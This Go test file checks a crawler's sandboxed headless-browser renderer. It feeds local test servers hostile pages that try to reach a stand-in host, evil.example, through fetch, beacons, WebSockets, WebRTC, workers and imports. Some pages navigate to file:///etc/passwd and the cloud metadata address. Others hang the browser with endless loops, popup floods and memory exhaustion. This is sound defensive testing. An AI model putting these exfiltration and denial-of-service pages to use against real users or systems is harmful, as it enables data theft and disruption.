package render_test

import (
	"bytes"
	"errors"
	"fmt"
	"image/png"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/qianshao/qianshao"
	"github.com/qianshao/qianshao/ingest/fetch"
	"github.com/qianshao/qianshao/ingest/render"
)

// thorough is set by .ci/run: then a browser is required, and the tests that
// take minutes run too.
const thorough = "QIANSHAO_BROWSER_TESTS"

func takesMinutes(t *testing.T) {
	t.Helper()
	if os.Getenv(thorough) == "" {
		t.Skip("skipped: takes minutes; set " + thorough + "=1")
	}
}

// world is a small Internet: a site that may be watched, and places that no packet may reach. All names
// resolve to it, so that a leak is counted and not lost.
type world struct {
	t       *testing.T
	site    *httptest.Server // http://site.example, and https://example.com
	secure  *httptest.Server
	outside *httptest.Server // every other name
	fetcher *fetch.Fetcher

	mu      sync.Mutex
	asked   map[string]int
	answers map[string]string
}

func newWorld(t *testing.T) *world {
	t.Helper()
	if _, err := render.Find(""); err != nil {
		if os.Getenv(thorough) != "" {
			t.Fatal(err)
		}
		t.Skip("skipped: ", err)
	}
	w := &world{t: t, asked: map[string]int{}, answers: map[string]string{}}
	w.site = httptest.NewServer(w.serve("site"))
	w.secure = httptest.NewTLSServer(w.serve("secure"))
	w.outside = httptest.NewServer(w.serve("outside"))
	t.Cleanup(func() { w.site.Close(); w.secure.Close(); w.outside.Close() })
	authorisation := &qianshao.Authorisation{
		ID: "test", ValidUntil: time.Now().Add(time.Hour), Rate: 1000, AllowPrivate: true,
		Hosts: []string{"site.example", "example.com", "metadata.example"}, Exclude: []string{"/private/"},
	}
	pool := w.secure.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs
	var err error
	w.fetcher, err = fetch.New(fetch.Options{
		UserAgent: "qianshao/test (+https://test.example/)", RootCAs: pool,
		Permit: func(u *url.URL) (*qianshao.Authorisation, qianshao.Skip) {
			return authorisation, authorisation.Covers(u, time.Now())
		},
		Resolve: map[string]string{
			"site.example": w.site.Listener.Addr().String(), "example.com": w.secure.Listener.Addr().String(),
			"metadata.example": "169.254.169.254:80", // a name in the scope that resolves to a closed address
			"evil.example":     w.outside.Listener.Addr().String(), "localhost": w.outside.Listener.Addr().String(),
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(w.fetcher.Close)
	return w
}

func (w *world) serve(name string) http.Handler {
	return http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		w.mu.Lock()
		w.asked[name+" "+r.Method+" "+r.URL.Path]++
		body, ok := w.answers[r.URL.Path]
		w.mu.Unlock()
		switch {
		case r.URL.Path == "/robots.txt":
			fmt.Fprint(rw, "User-agent: *\nDisallow: /forbidden/\n")
		case r.URL.Path == "/away":
			http.Redirect(rw, r, "http://evil.example/landed", http.StatusFound)
		case strings.HasSuffix(r.URL.Path, ".js"):
			rw.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(rw, body)
		case ok:
			fmt.Fprint(rw, body)
		default:
			http.NotFound(rw, r)
		}
	})
}

func (w *world) answer(path, body string) { w.answers[path] = body }

func (w *world) count(key string) int {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.asked[key]
}

// leaks are the requests that reached the outside.
func (w *world) leaks() (list []string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	for key := range w.asked {
		if strings.HasPrefix(key, "outside ") {
			list = append(list, key)
		}
	}
	return list
}

func (w *world) browser(change func(*render.Options)) *render.Browser {
	w.t.Helper()
	opts := render.Options{Fetcher: w.fetcher, NoSandbox: os.Geteuid() == 0}
	if change != nil {
		change(&opts)
	}
	b, err := render.New(opts)
	if err != nil {
		w.t.Fatal(err)
	}
	w.t.Cleanup(b.Close)
	return b
}

func page(rawURL, body string) qianshao.Page {
	return qianshao.Page{URL: rawURL, RequestedURL: rawURL, Status: 200, ContentType: "text/html; charset=utf-8", Body: []byte(body), FetchedAt: time.Now()}
}

func show(t *testing.T, b *render.Browser, p qianshao.Page) render.Rendered {
	t.Helper()
	out, err := b.Render(t.Context(), p)
	if err != nil {
		t.Fatalf("%v; refused %v", err, out.Refused)
	}
	return out
}

func TestScriptsMakeThePage(t *testing.T) {
	w := newWorld(t)
	w.answer("/app.js", `document.getElementById("app").innerHTML = "<p>线上赌场</p>"; fetch("/api/list").then(r => r.text()).then(s => { document.getElementById("list").textContent = s })`)
	w.answer("/api/list", "百家乐 老虎机")
	b := w.browser(nil)
	for _, base := range []string{"http://site.example/", "https://example.com/"} {
		out := show(t, b, page(base, `<title>应用</title><div id=app></div><div id=list></div><script src="/app.js"></script>`))
		dom := string(out.Page.Body)
		if !strings.Contains(dom, "<p>线上赌场</p>") || !strings.Contains(dom, "百家乐 老虎机") {
			t.Errorf("%s: %s, refused %v", base, dom, out.Refused)
		}
		if out.Page.View != qianshao.ViewBrowser || out.Page.URL != base || out.Requests != 2 || len(out.Refused) > 0 {
			t.Errorf("%s: view %q, URL %s, %d requests, refused %v", base, out.Page.View, out.Page.URL, out.Requests, out.Refused)
		}
		if picture, err := png.Decode(bytes.NewReader(out.Page.Screenshot)); err != nil || picture.Bounds().Dx() < 800 {
			t.Errorf("%s: the screenshot is not a picture: %v", base, err)
		}
	}
	if n := w.count("site GET /"); n != 0 {
		t.Errorf("the page itself was requested %d times more", n)
	}
	show(t, b, page("http://site.example/second", `<div id=app></div><div id=list></div><script src="/app.js"></script>`))
	if n := w.count("site GET /app.js"); n != 1 {
		t.Errorf("a script that two pages share was fetched %d times", n)
	}
}

// TestNothingLeavesTheScope tries every way out of the scope that a page has.
func TestNothingLeavesTheScope(t *testing.T) {
	w := newWorld(t)
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	datagrams := make(chan string, 100)
	go func() {
		buffer := make([]byte, 1500)
		for {
			_, from, err := udp.ReadFrom(buffer)
			if err != nil {
				return
			}
			datagrams <- from.String()
		}
	}()
	outside := w.outside.Listener.Addr().String()
	body := strings.NewReplacer("OUT", outside, "UDP", udp.LocalAddr().String()).Replace(`<!doctype html><title>出逃</title>
<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="http://OUT"><link rel="prefetch" href="http://OUT/prefetch">
<link rel="preload" as="script" href="http://evil.example/preload.js"><link rel="stylesheet" href="http://evil.example/x.css">
<img src="http://evil.example/i.png"><img src="http://OUT/direct.png"><img src="http://localhost/l.png"><img src="http://[::1]/six.png">
<img src="http://169.254.169.254/latest/meta-data/"><img src="http://metadata.example/meta.png"><img src="/away"><img src="/private/p.png"><img src="/forbidden/f.png">
<iframe src="http://evil.example/frame"></iframe><iframe src="/inside-frame"></iframe><object data="http://evil.example/object"></object>
<video src="http://evil.example/v.mp4"></video><script src="http://evil.example/s.js"></script><script src="https://evil.example/s.js"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://evil.example/speculated"]}]}</script>
<a ping="http://evil.example/ping" href="#x" id=a>x</a>
<p>还在</p><form id=f method=post action="http://evil.example/form"><input name=x value=y></form>
<script>
const tries = [
 () => fetch("http://evil.example/fetch", {mode: "no-cors"}), () => fetch("http://OUT/fetch", {mode: "no-cors"}),
 () => fetch("/post", {method: "POST", body: "x"}),
 () => navigator.sendBeacon("http://evil.example/beacon", "x"), () => navigator.sendBeacon("/beacon", "x"),
 () => { new WebSocket("ws://evil.example/ws"); new WebSocket("wss://evil.example/ws"); new WebSocket("ws://OUT/ws"); new WebSocket("ws://site.example/ws") },
 () => new EventSource("http://evil.example/events"),
 () => { const r = new RTCPeerConnection({iceServers: [{urls: "stun:UDP"}]}); r.createDataChannel("x"); r.createOffer().then(o => r.setLocalDescription(o)) },
 () => new Worker(URL.createObjectURL(new Blob(['fetch("http://evil.example/worker", {mode: "no-cors"}); importScripts("http://evil.example/worker.js")']))),
 () => navigator.serviceWorker && navigator.serviceWorker.register("/sw.js"),
 () => window.open("http://evil.example/popup"), () => window.open("file:///etc/passwd"),
 () => import("http://evil.example/module.js"),
 () => { const x = new XMLHttpRequest(); x.open("GET", "http://evil.example/xhr"); x.send() },
 () => document.getElementById("a").click(), () => document.getElementById("f").submit(),
 () => { location.href = "chrome://settings/" }, () => { location.href = "file:///etc/passwd" }, () => { location.href = "http://evil.example/location" },
 () => { const a = document.createElement("a"); a.href = "data:application/octet-stream,x"; a.download = "x.bin"; a.click() },
 () => { const a = document.createElement("a"); a.href = "weixin://dl/business"; a.click() },
]
for (const t of tries) try { t() } catch (e) {}
document.title = "做完"
</script>`)
	b := w.browser(nil)
	out := show(t, b, page("http://site.example/", body))
	if dom := string(out.Page.Body); !strings.Contains(dom, "还在") || !strings.Contains(dom, "做完") {
		t.Errorf("the page did not stay: %.300s", dom)
	}
	if out.Leaving != "http://evil.example/form" {
		t.Errorf("leaving for %q", out.Leaving)
	}
	if leaks := w.leaks(); len(leaks) > 0 {
		t.Errorf("reached the outside: %q", leaks)
	}
	for _, never := range []string{"site POST /post", "site POST /beacon", "site GET /private/p.png", "site GET /forbidden/f.png", "site GET /ws", "site GET /inside-frame"} {
		if w.count(never) > 0 {
			t.Errorf("was asked for: %s", never)
		}
	}
	for _, why := range []render.Refusal{
		render.RefusedMethod, render.RefusedDocument, render.RefusedTunnel, render.Refusal(qianshao.SkipNotAuthorised),
		render.Refusal(qianshao.SkipAddress), render.Refusal(qianshao.SkipPathExcluded), render.Refusal(qianshao.SkipRobots),
	} {
		if out.Refused[why] == 0 {
			t.Errorf("nothing was refused as %s: %v", why, out.Refused)
		}
	}
	select {
	case from := <-datagrams:
		t.Errorf("a datagram came from %s", from)
	case <-time.After(time.Second):
	}
}

// TestHostilePages: each ends within its time, and the next page is loaded as if nothing had happened.
func TestHostilePages(t *testing.T) {
	takesMinutes(t)
	w := newWorld(t)
	w.answer("/slow.js", "")
	for _, test := range []struct {
		name, body string
		want       string // a text in the document; "" if there need not be one
	}{
		{"endless loop", `<p>先来的</p><script>for(;;);</script>`, "先来的"},
		{"endless loop later", `<p>先来的</p><script>setTimeout(() => { for(;;); }, 600)</script>`, "先来的"},
		{"alert storm", `<p>先来的</p><script>for (let i = 0; i < 50; i++) { alert(i); confirm(i); prompt(i) } document.body.append("到底")</script>`, "到底"},
		{"endless alerts", `<p>先来的</p><script>for(;;) alert(1)</script>`, ""},
		{"unload", `<p>先来的</p><script>onbeforeunload = e => { e.preventDefault(); return "别走" }; onunload = () => { for(;;); }</script>`, "先来的"},
		{"popups", `<p>先来的</p><script>for (let i = 0; i < 200; i++) window.open("/popup" + i)</script>`, "先来的"},
		{"reloads", `<p>先来的</p><script>location.reload()</script>`, "先来的"},
		{"external application", `<p>先来的</p><script>location.href = "weixin://dl/business"</script>`, "先来的"},
		{"moves away and back", `<p>先来的</p><script>setInterval(() => { location.href = "/x" + Math.random() }, 1)</script>`, "先来的"},
		{"huge document", `<p>先来的</p><script>const s = "<p>" + "赌".repeat(1000) + "</p>"; let h = ""; for (let i = 0; i < 10000; i++) h += s; document.body.innerHTML += h</script>`, "先来的"},
		{"lying DOM", `<p>先来的</p><script>Object.defineProperty(Element.prototype, "outerHTML", {get() { return "骗人的" }}); document.querySelector = null; JSON.stringify = () => "骗人的"; String.prototype.slice = () => "骗人的"</script>`, "先来的"},
		{"nested frames", `<p>先来的</p><script>function f(d) { const i = d.createElement("iframe"); d.body.append(i); setTimeout(() => f(i.contentDocument), 0) } f(document)</script>`, ""},
		{"no document", `<script>document.documentElement.remove()</script>`, ""},
		{"not HTML", "\x00\x01\x02", ""},
		{"empty", "", ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			b := w.browser(func(o *render.Options) { o.Time = 15 * time.Second })
			start := time.Now()
			out, err := b.Render(t.Context(), page("http://site.example/hostile", test.body))
			took := time.Since(start)
			if test.want != "" && (err != nil || !strings.Contains(string(out.Page.Body), test.want)) {
				t.Errorf("%v, %.200q", err, out.Page.Body)
			}
			if len(out.Page.Body) > 17<<20 {
				t.Errorf("%d bytes came back", len(out.Page.Body))
			}
			if took > 60*time.Second { // four times its limit: the machine may be busy, but a hang is a hang
				t.Errorf("took %s", took)
			}
			after := show(t, b, page("http://site.example/after", `<p id=p></p><script>p.textContent = "平安"</script>`))
			if !strings.Contains(string(after.Page.Body), "平安") {
				t.Errorf("the page after it: %s", after.Page.Body)
			}
		})
	}
	if leaks := w.leaks(); len(leaks) > 0 {
		t.Errorf("reached the outside: %q", leaks)
	}
}

func TestPagesShareNothing(t *testing.T) {
	w := newWorld(t)
	b := w.browser(nil)
	show(t, b, page("http://site.example/a", `<script>document.cookie = "id=7; max-age=9999"; localStorage.setItem("id", "7")</script>`))
	out := show(t, b, page("http://site.example/b", `<p id=p></p><script>p.textContent = "[" + document.cookie + "][" + localStorage.getItem("id") + "]"</script>`))
	if !strings.Contains(string(out.Page.Body), "[][null]") {
		t.Errorf("%s", out.Page.Body)
	}
}

func TestManyAtATimeWithRestarts(t *testing.T) {
	takesMinutes(t)
	w := newWorld(t)
	b := w.browser(func(o *render.Options) { o.MaxPages = 3 })
	var group sync.WaitGroup
	for i := range 8 {
		group.Go(func() {
			out, err := b.Render(t.Context(), page(fmt.Sprintf("http://site.example/%d", i), fmt.Sprintf(`<p id=p></p><script>p.textContent = "第" + %d + "页"</script>`, i)))
			if err != nil || !strings.Contains(string(out.Page.Body), fmt.Sprintf("第%d页", i)) {
				t.Errorf("page %d: %v, %s", i, err, out.Page.Body)
			}
		})
	}
	group.Wait()
}

func TestTooMuchMemoryEndsTheBrowserAndTheNextPageIsShown(t *testing.T) {
	takesMinutes(t)
	w := newWorld(t)
	var log lockedBuffer
	b := w.browser(func(o *render.Options) {
		o.MaxMemory = 300 << 20
		o.Log = slog.New(slog.NewTextHandler(&log, nil))
	})
	_, err := b.Render(t.Context(), page("http://site.example/", `<script>const keep = []; for (;;) keep.push(new Uint8Array(16 << 20).fill(1))</script>`))
	if text := log.String(); err == nil || !strings.Contains(text, "grew too large") {
		t.Errorf("error %v, log %q", err, text)
	}
	show(t, b, page("http://site.example/after", "<p>平安</p>"))
}

type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

func TestCloseLeavesNoProcess(t *testing.T) {
	w := newWorld(t)
	before := chromiums(t)
	b := w.browser(nil)
	show(t, b, page("http://site.example/", "<p>一</p>"))
	if len(chromiums(t)) == len(before) {
		t.Skip("the browser's processes cannot be told on this system")
	}
	b.Close()
	for range 100 {
		if len(chromiums(t)) <= len(before) {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Errorf("still there: %q", chromiums(t))
}

// chromiums returns the command lines of our children's processes.
func chromiums(t *testing.T) (list []string) {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		t.Skip("no /proc")
	}
	for _, e := range entries {
		line, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err == nil && bytes.Contains(line, []byte("chromedp-runner")) && bytes.Contains(line, []byte("--user-data-dir=")) {
			list = append(list, string(line[:min(len(line), 80)]))
		}
	}
	return list
}

func TestRefusesToRun(t *testing.T) {
	w := newWorld(t)
	if _, err := render.New(render.Options{Fetcher: w.fetcher, Path: "/no/such/browser"}); !errors.Is(err, render.ErrNoBrowser) {
		t.Errorf("no browser: %v", err)
	}
	if _, err := render.New(render.Options{NoSandbox: true}); err == nil {
		t.Error("New accepted a browser without a fetcher")
	}
	if os.Geteuid() == 0 {
		if _, err := render.New(render.Options{Fetcher: w.fetcher}); !errors.Is(err, render.ErrRoot) {
			t.Errorf("as root: %v", err)
		}
	}
}
